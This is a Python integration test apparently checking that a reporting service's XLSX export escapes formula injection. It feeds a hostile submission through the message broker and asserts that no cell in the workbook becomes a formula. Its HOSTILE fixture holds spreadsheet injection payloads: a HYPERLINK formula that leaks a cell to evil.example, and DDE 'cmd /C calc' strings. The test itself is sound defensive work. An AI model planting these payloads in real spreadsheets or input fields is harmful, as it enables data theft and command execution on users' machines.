"""A unit's words reach the compiler's workbook as words: nothing a unit writes becomes a formula or link.

Reporting runs on the real broker with its own store; the test plays intake and tasks (it publishes the
plan, the assignment and a hostile result), compiles the submission over HTTP and reads the XLSX back.
"""

from __future__ import annotations

import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from dondoc.kernel.clock import ShiftedClock
from services.reporting.app import create_app
from services.reporting.documents.spreadsheet_text import FORMULA_TRIGGERS
from services.reporting.settings import ReportingSettings
from shared.envelope import wrap
from shared.events import Event, PlanReceived, PlanTask, ResultSubmitted, TaskAssigned, Timeframe, UnitRef
from tests.support import ADMIN_TOKEN, eventually, publish_raw, running

pytestmark = pytest.mark.integration
AUTH = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
DUE = date(2026, 5, 31)
HOSTILE = {
    "output": '=HYPERLINK("http://evil.example/?leak="&A1,"Xem văn bản")',
    "narrative": "+1+cmd|' /C calc'!A0",
    "difficulties": "-2+3+cmd|' /C calc'!A0",
    "proposals": "@SUM(1+1)*cmd|' /C calc'!A0",
}


async def _publish(broker: str, event: Event, key: str) -> None:
    envelope = wrap(event, source="test", correlation_id="c")
    await publish_raw(broker, event.topic, envelope.to_bytes(), key.encode())


async def test_text_from_a_unit_is_never_a_formula_in_any_sheet(broker: str, database_url: str) -> None:
    settings = ReportingSettings(
        kafka_bootstrap=broker,
        database_url=database_url,
        dondoc_admin_token=ADMIN_TOKEN,
        ticker_enabled=False,
        consumer_retry_base_seconds=0.01,
    )
    app = create_app(settings, clock=ShiftedClock.on(date(2026, 6, 20)))
    plan = PlanReceived(
        plan_id="p-xlsx",
        number="9/KH-UBND",
        title="Kế hoạch rà soát",
        issuer=UnitRef(text="UBND thành phố Hải Phòng", unit="HP"),
        tasks=[PlanTask(ref="1", title="Rà soát văn bản", timeframe=Timeframe(kind="deadline", due=DUE))],
    )
    assigned = TaskAssigned(
        assignment_id="a-11407",
        plan_id="p-xlsx",
        plan_version=1,
        plan_title="Kế hoạch rà soát",
        task_ref="1",
        task_title="Rà soát văn bản",
        unit="11407",
        unit_name="11407",
        role="chu_tri",
        timeframe=Timeframe(kind="deadline", due=DUE),
    )
    result = ResultSubmitted(
        result_id="r-11407",
        assignment_id="a-11407",
        unit="11407",
        version=1,
        status="hoan_thanh",
        completed_on=date(2026, 5, 20),
        submitted_at=datetime(2026, 5, 21, 2, tzinfo=UTC),
        **HOSTILE,
    )
    async with running(app) as client:
        await _publish(broker, plan, "HP")
        await _publish(broker, assigned, "11407")
        await _publish(broker, result, "11407")

        async def result_counted() -> bool:
            answer = await client.get("/plans/p-xlsx/reviews", headers=AUTH)
            return answer.status_code == 200 and len(answer.json()) == 1

        await eventually(result_counted, what="the result in reporting's read model")
        command = {"plan_id": "p-xlsx", "period_start": "2026-01-01", "period_end": "2026-06-30"}
        made = await client.post("/reports", headers=AUTH, json=command)
        assert made.status_code == 201, made.text
        document = await client.get(f"/reports/{made.json()['report_id']}/document.xlsx", headers=AUTH)
        assert document.status_code == 200

    workbook = load_workbook(io.BytesIO(document.content))
    texts: list[str] = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), f"{sheet.title}!{cell.coordinate}"
                    texts.append(cell.value)
    shown = "\n".join(texts)
    # The unit's words are all there, only made inert by the leading quote.
    assert f"'{HOSTILE['output']}" in shown
    assert f"'{HOSTILE['difficulties']}" in shown
    assert f"'{HOSTILE['proposals']}" in shown
